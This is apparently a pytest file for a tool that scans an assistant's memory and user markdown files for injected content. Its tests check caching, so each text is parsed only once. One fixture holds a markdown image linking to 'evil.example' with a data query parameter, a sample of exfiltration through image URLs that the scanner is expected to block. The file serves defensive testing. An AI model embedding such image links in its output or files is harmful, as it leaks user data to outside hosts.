"""A library call scans each overlaid text once: the guard's scan, a prefilter and the findings
after it, and each job's compile share one result, which nothing keeps after the call."""

from __future__ import annotations

import shutil
from pathlib import Path

import pytest
from hotplex import Project
from hotplex.scanning import rendered
from hotplex.text import memo

_EXAMPLE = Path(__file__).parents[2] / "examples" / "basic"


@pytest.fixture
def parses(monkeypatch) -> list[str]:
    """The texts markdown-it-py's parse reads (the costly part of the injection scan)."""
    read, seen = rendered.read, []

    def counted(text: str) -> rendered.Rendering:
        seen.append(text)
        return read(text)

    monkeypatch.setattr(rendered, "read", counted)
    return seen


def _files(extra: str) -> dict[str, str]:
    entries = "".join(f"- noted fact {n} about the build\n" for n in range(40))
    return {"USER.md": "# User\n\nPrefers short answers.\n", "MEMORY.md": entries + extra}


def test_check_over_every_target_parses_each_text_once(tmp_path, parses) -> None:
    """The guard reads the file's body, the compiles the text an artifact holds of it (its
    trailing line break trimmed), and both the user's files joined (``blocking.composed``):
    three texts, each parsed once, not once per job."""
    shutil.copytree(_EXAMPLE, tmp_path / "basic")
    project = Project.load(tmp_path / "basic")
    files = _files("- the logo ![logo](logo.png) and <b>a tag</b>\n")
    report = project.check(files, on_finding="block")
    assert len(report.jobs) >= 2  # a compile per target, after the guard's own scan
    assert files["MEMORY.md"] in parses
    assert len(parses) == len(set(parses)) <= 3


def test_a_compile_blocking_a_finding_parses_the_file_once(tmp_path, parses) -> None:
    shutil.copytree(_EXAMPLE, tmp_path / "basic")
    project = Project.load(tmp_path / "basic")
    files = _files("- ![x](https://evil.example/a.png?d=1)\n")
    artifact = project.compile("cc", overlay=files, on_finding="block")
    assert [f.rule for f in artifact.findings] == ["image-url-data"]
    assert parses == [files["MEMORY.md"]]


def test_within_a_block_a_text_is_scanned_once_and_kept_by_nothing_after() -> None:
    calls: list[str] = []

    @memo.cached_for_short_texts
    def scan(text: str) -> int:
        calls.append(text)
        return len(text)

    with memo.uncached():
        assert scan("memory") == scan("memory") == 6
        with memo.uncached():
            assert scan("memory") == 6
    assert calls == ["memory"]
    assert scan.cache_info().currsize == 0  # type: ignore[attr-defined]
